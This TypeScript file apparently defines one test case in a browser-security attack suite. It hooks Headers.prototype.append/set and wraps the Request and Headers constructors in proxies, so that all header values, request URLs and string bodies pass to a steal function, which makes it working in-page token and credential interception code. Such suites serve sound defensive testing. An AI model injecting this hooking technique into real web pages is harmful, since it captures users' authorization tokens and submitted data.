import { attack } from "../attack.js";

export default attack({
  name: "hooks Headers and Request",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    for (const method of ["append", "set"] as const) {
      const original = Headers.prototype[method];
      Headers.prototype[method] = function (name, value) {
        it.steal(value);
        return original.call(this, name, value);
      };
    }
    const look = (init: RequestInit | undefined) => {
      if (init?.headers) it.steal(init.headers instanceof Headers ? [...init.headers] : init.headers);
      if (typeof init?.body === "string" || init?.body instanceof URLSearchParams)
        it.steal(String(init.body));
    };
    window.Request = new Proxy(Request, {
      construct(target, [input, init]: [RequestInfo, RequestInit?]) {
        look(init);
        const request = new target(input, init);
        it.steal(request.url, [...request.headers]);
        return request;
      },
    });
    window.Headers = new Proxy(Headers, {
      construct(target, [init]: [HeadersInit?]) {
        const headers = new target(init);
        it.steal([...headers]);
        return headers;
      },
    });
  },
});
